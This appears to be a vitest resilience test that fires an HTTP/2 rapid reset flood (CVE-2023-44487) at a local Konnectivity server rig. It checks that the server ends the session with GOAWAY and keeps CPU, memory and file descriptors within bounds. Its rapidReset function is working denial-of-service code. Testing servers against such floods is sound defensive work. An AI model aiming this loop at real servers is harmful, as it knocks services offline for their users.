import http2 from 'node:http2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { konnectivityEcho, startKonnectivityRig, type KonnectivityRig } from './support/konnectivity-rig.js';
import { MiB, closedWithin, during, fdsBackTo, mib, sample } from './support/victim.js';

// HTTP/2 rapid reset (CVE-2023-44487) against the real `spoke konnectivity server`'s gRPC ports: the
// agent port (TLS, no credentials needed to open streams) and the mTLS front end (with a front-end
// client certificate). The attacker opens a stream (HEADERS) and cancels it (RST_STREAM) in a loop as
// fast as it can write. The bound: the server ends the abusive session with GOAWAY within
// GOAWAY_BOUND_MS, spends less than CPU_BOUND_MS of CPU on it, its RSS grows by less than RSS_BOUND,
// its fds return, and a legitimate dial through the front end and the agent works during and after.

const ATTEMPTS = 20_000;
// Generous: on a loaded 2-vCPU machine our own client takes seconds to write 20,000 streams.
const GOAWAY_BOUND_MS = 20_000;
const CPU_BOUND_MS = 5_000;
const RSS_BOUND = 64 * MiB;

/** Opens and at once cancels Connect streams until the server ends the session or `ATTEMPTS` are made; resolves with the count and the GOAWAY code. */
async function rapidReset(
  session: http2.ClientHttp2Session,
  path: string,
): Promise<{ opened: number; goaway: number | undefined; goawayAfterMs: number }> {
  const started = performance.now();
  let goaway: number | undefined;
  let goawayAfterMs = Infinity;
  session.on('goaway', (code: number) => {
    goaway ??= code;
    goawayAfterMs = Math.min(goawayAfterMs, performance.now() - started);
  });
  let opened = 0;
  for (; opened < ATTEMPTS && !session.closed && !session.destroyed && goaway === undefined; opened++) {
    const stream = session.request(
      { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', agentid: 'flood' },
      { endStream: false },
    );
    stream.on('error', () => {});
    stream.close(http2.constants.NGHTTP2_CANCEL);
    // Let the frames out in batches of 100 HEADERS + RST_STREAM pairs, thousands a second.
    if (opened % 100 === 99) await new Promise((resolve) => setImmediate(resolve));
  }
  // The server owes us the end of the session; we never close it ourselves.
  await closedWithin(session, GOAWAY_BOUND_MS, 'the rapid-reset session');
  return { opened, goaway, goawayAfterMs };
}

describe('adversarial: HTTP/2 rapid reset against the Konnectivity server (CVE-2023-44487)', () => {
  let rig: KonnectivityRig;
  beforeAll(async () => {
    rig = await startKonnectivityRig();
  });
  afterAll(async () => {
    await rig?.stop();
  });

  it.each([
    ['agent port', 'agent', '/AgentService/Connect'],
    ['mTLS front end', 'front', '/ProxyService/Proxy'],
  ] as const)('on the %s: GOAWAY within bounds, CPU and RSS bounded, fds back, dials flow', async (_name, which, path) => {
    const port = which === 'agent' ? rig.agentPort : rig.frontPort;
    const creds = which === 'agent' ? { ca: rig.pem.ca } : { ca: rig.pem.ca, cert: rig.pem.clientCert, key: rig.pem.clientKey };
    const base = sample(rig.server);
    const attacker = http2.connect(`https://127.0.0.1:${port}`, creds);
    attacker.on('error', () => {});
    await new Promise((resolve) => attacker.once('remoteSettings', resolve));
    const { result, peakRss, cpuMs } = await during(rig.server, async () => {
      const [attack, echo] = await Promise.all([rapidReset(attacker, path), konnectivityEcho(rig, 'during')]);
      return { ...attack, echo };
    });
    console.log(
      `rapid reset (${_name}): ${result.opened} streams opened, GOAWAY ${result.goaway} after ${Math.round(result.goawayAfterMs)} ms, ` +
        `server CPU ${cpuMs} ms, RSS ${mib(base.rss)} → peak ${mib(peakRss)}`,
    );
    // The server ended the session (nghttp2 says INTERNAL_ERROR or ENHANCE_YOUR_CALM); we never close it ourselves.
    expect(result.goaway).toBeDefined();
    expect(result.goawayAfterMs).toBeLessThan(GOAWAY_BOUND_MS);
    expect(cpuMs).toBeLessThan(CPU_BOUND_MS);
    expect(peakRss - base.rss).toBeLessThan(RSS_BOUND);
    expect(result.echo).toMatchObject({ code: 0, stdout: 'during' });
    await fdsBackTo(rig.server, base.fds, 2);
    expect(await konnectivityEcho(rig, 'after')).toMatchObject({ code: 0, stdout: 'after' });
  });
});
